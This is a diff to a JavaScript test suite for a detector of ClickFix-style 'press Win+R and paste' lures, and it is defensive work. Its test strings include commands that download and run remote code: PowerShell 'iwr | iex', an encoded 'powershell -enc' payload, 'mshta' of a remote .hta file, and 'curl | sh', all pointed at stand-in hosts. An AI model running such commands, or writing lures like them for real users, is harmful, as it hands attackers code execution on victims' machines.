@@ -13,11 +13,12 @@ describe("findPasteAndRun (ClickFix)", () => {
 
   it("wants the pretext for a paste, and a download or a hidden window for a command", () => {
     expect(find("Press Win+R, paste the address with Ctrl+V and press Enter to open the shared folder.")).toBeNull();
+    expect(find("To verify the installation, press Win+R, paste the command with Ctrl+V and press Enter.")).toBeNull();
     expect(find("Open PowerShell and run: iwr -useb https://get.example.dev/install.ps1 | iex")).toBeNull();
     expect(find("Press Win+R and type cmd /c ipconfig /all to see your address.")).toBeNull();
     expect(find("Press Win+R and run: mshta https://cdn-7731.example/check.hta")).toMatchObject({ how: "command", command: expect.stringMatching(/^mshta https:/) });
     expect(find("To open the document press Win+X, I and run powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA=")).toMatchObject({ how: "command" });
-    expect(find("Verification: press Win+R and enter: curl -s https://a.example/x.sh | sh")).toMatchObject({ how: "command", command: expect.stringMatching(/^curl /) });
+    expect(find("Verification required: press Win+R and enter: curl -s https://a.example/x.sh | sh")).toMatchObject({ how: "command", command: expect.stringMatching(/^curl /) });
   });
 
   it("takes `cmd` for the command host only as cmd /c or /k: Cmd+V is the macOS paste", () => {
